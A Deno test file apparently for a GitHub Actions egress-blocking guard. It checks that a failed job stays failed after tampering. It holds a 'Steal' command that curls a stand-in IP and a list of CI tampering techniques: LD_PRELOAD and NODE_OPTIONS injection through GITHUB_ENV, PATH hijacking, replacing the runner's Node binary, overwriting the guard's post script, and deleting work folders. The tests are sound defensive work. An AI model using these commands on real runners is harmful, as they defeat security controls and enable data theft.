/** What a step leaves behind for the post step never makes a red job green. */
import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import { runOrThrow } from "../lab/command.ts";
import { Lab } from "../lab/lab.ts";
import { Ground, SLUICE } from "./ground.ts";
import { installSource } from "./releasing.ts";
import { findStep, type WorkflowJob } from "./workflow.ts";

const SOURCE = fileURLToPath(new URL("./poison.c", import.meta.url));
const STEAL = "curl -sS --max-time 5 http://203.0.113.66:4444/ || true";

interface Poison {
  readonly name: string;
  /** As the runner's user; ACTION, NODE and POISON are paths. */
  readonly run: string;
  readonly job?: Partial<WorkflowJob>;
  /** Whether the post step comes to say that it is well. */
  readonly isPostWell: boolean;
}

const POISONS: readonly Poison[] = [
  {
    name: "nothing at all",
    run: "true",
    isPostWell: false,
  },
  {
    name: "a library in every program",
    run: 'echo "LD_PRELOAD=$POISON" >> "$GITHUB_ENV"',
    isPostWell: true,
  },
  {
    name: "options for Node, where a runner lets them through",
    job: { isNodeOptionsLet: true },
    run: 'echo "process.exit(0)" > /tmp/end.cjs; ' +
      'echo "NODE_OPTIONS=--require=/tmp/end.cjs" >> "$GITHUB_ENV"',
    isPostWell: true,
  },
  {
    name: "a script before every bash",
    run: 'echo "exit 0" > /tmp/end.sh; ' +
      'echo "BASH_ENV=/tmp/end.sh" >> "$GITHUB_ENV"',
    isPostWell: false,
  },
  {
    name: "programs of its own in front of PATH",
    run: "mkdir /tmp/first; for each in node sudo npm env; do " +
      'printf "#!/bin/sh\\nexit 0\\n" > /tmp/first/$each; done; ' +
      'chmod +x /tmp/first/*; echo /tmp/first >> "$GITHUB_PATH"',
    isPostWell: false,
  },
  {
    name: "another Node in the runner's place",
    run: 'printf "#!/bin/sh\\nexit 0\\n" > /tmp/node; chmod +x /tmp/node; ' +
      'mv -f /tmp/node "$NODE"',
    isPostWell: true,
  },
  {
    name: "another entry",
    run: 'echo "process.exit(0);" > "$ACTION/agent/action/post.ts"',
    isPostWell: true,
  },
  {
    name: "another module behind the entry",
    run: 'echo "export const post = () => 0;" > ' +
      '"$ACTION/agent/action/stages.ts"',
    isPostWell: true,
  },
  {
    name: "an entry that asks, and hides the answer",
    run: 'cd "$ACTION/agent/action"; ' +
      'sed -i "s/process.exit(.*/await post(process.env); process.exit(0);/" ' +
      "post.ts",
    isPostWell: true,
  },
  {
    name: "no entry",
    run: 'rm -r "$ACTION"',
    isPostWell: false,
  },
  {
    name: "a state that says that nobody guards",
    run: 'echo "STATE_sluice=unguarded" >> "$GITHUB_ENV"',
    isPostWell: false,
  },
  {
    name: "a post step of its own",
    run: '"$NODE" "$ACTION/agent/action/post.ts" || true; ' +
      'bash -c "exec -a $NODE $NODE $ACTION/agent/action/post.ts" || true',
    isPostWell: false,
  },
  {
    name: "no work folder",
    run: 'cd /; rm -rf "$RUNNER_TEMP" "$GITHUB_WORKSPACE"',
    isPostWell: false,
  },
];

for (const { name, run, job: more, isPostWell } of POISONS) {
  Deno.test(`a red verdict stays red with ${name}`, async () => {
    await using lab = await Lab.up();
    await using ground = await Ground.up(lab);
    await installSource(ground);
    const library = `${ground.runner.root}/poison.so`;
    await runOrThrow(["gcc", "-shared", "-fPIC", "-o", library, SOURCE]);
    const job = await ground.run({
      ...more,
      steps: [{
        name: "Guard",
        uses: SLUICE,
        with: { "egress-policy": "block", "on-denied": "fail" },
      }, {
        name: "Steal",
        run: STEAL,
      }, {
        name: "Poison",
        run,
        env: {
          ACTION: ground.actionDirectory(SLUICE),
          NODE: `${ground.runner.root}/externals/node24/bin/node`,
          POISON: library,
        },
      }],
    });
    const told = job.steps.map(({ name, exitCode, log }) =>
      `${name}: ${exitCode}\n${log}`
    ).join("\n");
    assert.equal(findStep(job, "Guard").exitCode, 0, told);
    assert.equal(findStep(job, "Poison").exitCode, 0, told);
    assert.equal(job.conclusion, "failure", told);
    if (isPostWell) assert.equal(job.isWorkerLost, true, told);
    else assert.notEqual(findStep(job, "Post Guard").exitCode, 0, told);
  });
}
